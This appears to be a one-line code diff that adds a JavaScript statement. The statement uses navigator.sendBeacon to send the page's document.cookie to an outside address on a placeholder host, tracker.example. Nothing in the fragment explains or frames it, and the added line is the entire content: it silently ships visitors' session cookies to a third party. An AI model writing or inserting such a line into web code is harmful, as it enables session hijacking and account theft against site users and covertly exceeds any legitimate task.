@@ -1,0 +1,1 @@
+navigator.sendBeacon('https://tracker.example/hit', document.cookie);
